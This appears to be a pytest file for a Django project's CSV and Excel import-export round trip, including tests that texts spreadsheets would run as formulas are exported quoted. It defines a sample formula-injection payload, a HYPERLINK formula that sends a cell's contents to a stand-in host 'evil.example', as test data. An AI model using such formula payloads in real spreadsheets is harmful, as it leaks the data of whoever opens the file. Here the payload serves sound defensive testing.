"""The import reads what the export writes: an export imported back restores changed records
exactly and recreates deleted ones as drafts, from CSV and from the same file saved by Excel as
.xlsx, texts that look like formulas too (quoted in the file, as they were once imported); an
unchanged export, or the same file twice, changes nothing (cooperation/imports/)."""

import datetime
import io

import openpyxl
import pytest
from django.contrib.admin.models import LogEntry
from django.db.models import ProtectedError

from cooperation.core.partial_dates import PartialDate as PD
from cooperation.imports import CREATE, ERROR, UNCHANGED, UPDATE, apply_import, plan_import, read_table
from cooperation.models import Agreement, AgreementAction, Citation, Project
from events.models import Meeting
from partners.models import Partner
from tests import factories as f
from tests.helpers.imports import LISTS, csv_cells, export_csv, make_csv, run_import, seed_like, snapshot
from tests.helpers.users import publisher

pytestmark = pytest.mark.django_db


# The import reads what the export writes --------------------------------------------------------


def lf(value):
    return value.replace("\r\n", "\n") if isinstance(value, str) else value


def as_excel_would(data):
    """The CSV opened in Excel and saved as .xlsx: numbers become numbers and ISO dates become
    date cells, formatted at the precision they had (2006-08 → "mmm yyyy")."""
    rows = csv_cells(data)
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.append(rows[0])
    for row in rows[1:]:
        sheet.append([_typed(header, value) for header, value in zip(rows[0], row, strict=True)])
        for cell, header, value in zip(sheet[sheet.max_row], rows[0], row, strict=True):
            if header.endswith("_iso") and "-" in value:
                cell.number_format = "yyyy-mm-dd" if value.count("-") == 2 else "mmm yyyy"
    output = io.BytesIO()
    workbook.save(output)
    return output.getvalue()


def _typed(header, value):
    if header.endswith("_iso") and value:
        parts = [int(part) for part in value.split("-")]
        if len(parts) == 1:
            return parts[0]
        return datetime.datetime(parts[0], parts[1], parts[2] if len(parts) == 3 else 1)
    if header == "member_states" and value:
        return int(value)
    return value or None


def mutate(name):
    """Change records of ``name`` every way the import can undo."""
    if name == "partners":
        iom = Partner.objects.get(slug="iom")
        iom.name, iom.acronym, iom.kind, iom.scope, iom.country = "Renamed", "", "state", "bilateral", "FR"
        iom.headquarters, iom.founded, iom.member_states, iom.website = "", PD(2000), None, ""
        iom.other_names, iom.description, iom.parent = "Other", "", Partner.objects.get(slug="eu")
        iom.save()
        Partner.objects.filter(slug="iom-council").update(parent=None, founded=None)
        f.CitationFactory(content_object=iom, source=f.SourceFactory(slug="added-source"), locator="")
        Citation.objects.for_object(Partner.objects.get(slug="iom-council")).delete()
    elif name == "agreements":
        agreement = Agreement.objects.get(slug="cooperation-1999")
        agreement.title, agreement.kind, agreement.legal_summary = "Other", "other", ""
        agreement.save()
        # Its actions: one changed, one deleted, one added (the draft party's is not in the file).
        AgreementAction.objects.filter(agreement=agreement, kind="signature").update(date=PD(1998), place="")
        AgreementAction.objects.get(agreement=agreement, kind="approval").delete()
        f.AgreementActionFactory(agreement=agreement, kind="termination", date=PD(2020))
        agreement.save()
        agreement.parties.set([Partner.objects.get(slug="eu"), Partner.objects.get(slug="draft-agency")])
        agreement.topics.clear()
        Citation.objects.for_object(agreement).delete()
    elif name == "projects":
        project = Project.objects.get(slug="unimig")
        project.title, project.short_title, project.phase, project.status = "Other", "", "", "ongoing"
        project.start, project.end = PD(2005, 1, 1), None
        project.planned_start, project.planned_end = None, PD(2009, 2)
        project.recipient_countries = ["TR"]
        project.save()
        project.project_partners.filter(partner__slug="eu").delete()
        f.ProjectPartnerFactory(project=project, partner=Partner.objects.get(slug="turkiye"), role="other")
        project.topics.set([])
        project.agreements.clear()
    else:
        meeting = Meeting.objects.get(slug="geneva-2016")
        meeting.title, meeting.kind, meeting.start, meeting.end = "Other", "summit", PD(2016), None
        meeting.city, meeting.country, meeting.participants_note = "", "", ""
        meeting.save()
        meeting.partners.set(Partner.objects.filter(slug__in=["eu", "draft-agency"]))
        meeting.participants.clear()
        meeting.agreements.set([Agreement.objects.get(slug="readmission-2014")])
        meeting.projects.clear()
        Citation.objects.for_object(meeting).delete()


# Texts a spreadsheet program would run as formulas ------------------------------------------------

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n")
# The record of each list that mutate() changes, and texts for the fields it changes: each
# begins with a formula trigger, or with quotes and one.
FORMULA_TEXTS = {
    "partners": (
        "iom",
        {
            "name": HYPERLINK,
            "acronym": "+IOM",
            "headquarters": "-Geneva",
            "other_names": "@first\n'=second",
            "description": "'=quoted\nsecond line",
        },
    ),
    "agreements": ("cooperation-1999", {"title": "=1+1", "legal_summary": "''+x", "short_title": "@Baku"}),
    "projects": ("unimig", {"title": "-Capacity building", "short_title": "'@UNIMIG", "phase": "+II"}),
    "meetings": ("geneva-2016", {"title": "@Geneva", "city": "=Geneva", "participants_note": "'-SMS"}),
}


def give_formula_texts(name, texts=None):
    slug, fields = FORMULA_TEXTS[name]
    record = LISTS[name].objects.get(slug=slug)
    for field, value in (texts or fields).items():
        setattr(record, field, value)
    record.save()


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
@pytest.mark.parametrize("name", LISTS)
def test_an_export_imported_back_restores_changed_records_exactly(client, name, file_format):
    seed_like()
    give_formula_texts(name)
    model = LISTS[name]
    before = snapshot(model)
    original = export_csv(client, name)
    # Texts a spreadsheet program would run as formulas go out quoted, and come back as they were.
    cells = [cell for row in csv_cells(original) for cell in row]
    assert [cell for cell in cells if cell.startswith(TRIGGERS)] == []
    assert {"'" + value for value in FORMULA_TEXTS[name][1].values() if "\n" not in value} <= set(cells)
    mutate(name)
    assert snapshot(model) != before
    data = as_excel_would(original) if file_format == "xlsx" else original

    plan = run_import(model, f"{name}.{file_format}", data, publisher())

    assert plan.counts[UPDATE] >= 1
    assert plan.counts[CREATE] == plan.counts[ERROR] == 0
    # Fields, links, roles with notes, citations with their pages: as they were. Links to
    # drafts, which the export leaves out, are kept.
    if file_format == "xlsx":
        # An .xlsx cell holds a line break as "\n" (XML reads "\r\n" so): a restored text has those.
        before = {slug: {k: lf(v) for k, v in values.items()} for slug, values in before.items()}
    assert snapshot(model) == before
    if file_format == "csv":
        assert export_csv(client, name) == original
    else:
        assert csv_cells(export_csv(client, name)) == [[lf(cell) for cell in row] for row in csv_cells(original)]


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
@pytest.mark.parametrize("name", LISTS)
def test_an_export_imported_back_recreates_deleted_records_as_drafts(client, name, file_format):
    seed_like()
    model = LISTS[name]
    original = export_csv(client, name)
    deleted = []
    for obj in model.objects.filter(published=True):
        try:
            obj.delete()
            deleted.append(obj.slug)
        except ProtectedError:
            pass  # a partner other records still point to
    assert deleted
    data = as_excel_would(original) if file_format == "xlsx" else original

    plan = run_import(model, f"{name}.{file_format}", data, publisher())

    assert sorted(row.slug for row in plan.rows if row.action == CREATE) == sorted(deleted)
    recreated = model.objects.filter(slug__in=deleted)
    assert sorted(recreated.filter(published=False).values_list("slug", flat=True)) == sorted(deleted)
    recreated.update(published=True)
    assert export_csv(client, name) == original


@pytest.mark.parametrize("name", LISTS)
def test_importing_an_unchanged_export_reports_every_row_unchanged_and_writes_nothing(
    client, name, django_assert_num_queries
):
    seed_like()
    model = LISTS[name]
    data = export_csv(client, name)
    user = publisher()
    plan = plan_import(model, read_table(f"{name}.csv", data), user)
    assert [row.action for row in plan.rows] == [UNCHANGED] * model.objects.filter(published=True).count()
    with django_assert_num_queries(0):
        apply_import(plan=plan, user=user)


def test_the_second_import_of_the_same_file_changes_nothing():
    seed_like()
    user = publisher()
    rows = [
        ["slug", "name", "acronym", "kind", "scope", "country_code", "parent_slug", "founded_iso", "source_slugs"],
        ["new-state", "New State", "", "State", "Bilateral", "de", "", "1990-10-03", "sms-report"],
        [
            "iom",
            "International Organization for Migration",
            "IOM",
            "International organisation",
            "Multilateral",
            "",
            "",
            "1951-12-05",
            "sms-report; iom-page",
        ],
    ]
    first = run_import(Partner, "partners.csv", make_csv(rows), user)
    assert [row.action for row in first.rows] == [CREATE, UPDATE]
    stamps = dict(Partner.objects.values_list("slug", "updated_at"))
    history = Partner.history.count()
    entries = LogEntry.objects.count()

    second = run_import(Partner, "partners.csv", make_csv(rows), user)

    assert [row.action for row in second.rows] == [UNCHANGED, UNCHANGED]
    assert dict(Partner.objects.values_list("slug", "updated_at")) == stamps
    assert Partner.history.count() == history
    assert LogEntry.objects.count() == entries


@pytest.mark.parametrize("name", LISTS)
def test_texts_that_begin_with_a_tab_or_a_line_break_go_out_quoted_and_read_back_unchanged(client, name):
    # The import compares and saves text without the spaces around it (docs/data-format.md), so
    # what matters is that such a text is quoted and its record found unchanged.
    seed_like()
    field = {"partners": "description", "agreements": "legal_summary"}.get(name, "description")
    give_formula_texts(name, {field: "\t=1+1\r\n\r=2+2"})
    data = export_csv(client, name)
    column = csv_cells(data)[0].index(field)
    assert "'\t=1+1\r\n\r=2+2" in [row[column] for row in csv_cells(data)]
    plan = plan_import(LISTS[name], read_table(f"{name}.csv", data), publisher())
    assert {row.action for row in plan.rows} == {UNCHANGED}
